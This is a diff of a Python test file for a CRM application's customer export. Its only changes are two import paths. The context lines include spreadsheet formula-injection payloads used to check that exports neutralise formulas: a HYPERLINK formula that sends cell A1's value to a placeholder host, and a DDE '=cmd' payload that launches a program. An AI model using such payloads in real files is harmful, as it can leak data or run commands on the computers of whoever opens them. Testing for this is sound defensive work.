@@ -10,7 +10,7 @@ import openpyxl
 import pytest
 
 from crm_core.config import ConfigError, load_config
-from crm_core.web.testing import web_login
+from crm_core.browser_testing import web_login
 
 HYPERLINK = '=HYPERLINK("http://x?"&A1,"click")'
 CMD = "=cmd|' /C calc'!A0"
@@ -67,7 +67,7 @@ def test_api_export_neutralises_formulas(client, admin_headers, formula_customer
 
 def test_csv_export_imports_back_unchanged(client, admin_headers, formula_customers):
     exported = client.get("/api/v1/customers/export?format=csv", headers=admin_headers).data
-    from crm_core.records.tabular import read_table
+    from crm_core.transfer.tabular import read_table
 
     header, rows = read_table(exported, "customers.csv")
     names = {row[header.index("name")] for row in rows}
